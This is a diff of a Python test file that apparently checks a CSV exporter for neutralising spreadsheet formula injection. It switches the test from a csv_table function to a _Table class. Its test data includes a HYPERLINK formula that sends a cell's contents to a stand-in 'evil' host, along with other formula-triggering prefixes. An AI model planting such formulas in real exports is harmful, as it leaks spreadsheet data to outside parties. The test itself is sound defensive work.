@@ -15,7 +15,7 @@ from local.analyst.answer import Answer
 from local.analyst.printing import as_cells, write
 from local.move_in.refused_file import RefusedFile
 from local.move_in.rows import RefusedRow, columns_of, read_rows
-from processors.exporting import csv_table
+from processors.exporting import _Table
 
 RUNNING = ['=HYPERLINK("http://evil?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1"]
 QUIET = ["", "ann", "'=1", "'", "a=1", " -", "x@y.example"]
@@ -50,7 +50,9 @@ def test_what_is_written_is_quiet_and_can_be_read_back(text: str) -> None:
 
 def test_an_export_holds_no_cell_that_runs() -> None:
     rows = [{"key": each, each: -5, "points": -5, "nested": {"=": "=1"}} for each in RUNNING]
-    told = list(csv.DictReader(io.StringIO(csv_table(rows).decode(), newline="")))
+    table = _Table(io.StringIO())
+    list(table.texts(rows))
+    told = list(csv.DictReader(io.StringIO(b"".join(table.lines()).decode(), newline="")))
     assert all(is_quiet(each or "") for row in told for each in (*row, *row.values()))
     assert [row["points"] for row in told] == ["-5"] * len(rows)
     assert [row["key"] for row in told] == [f"'{each}" for each in RUNNING]
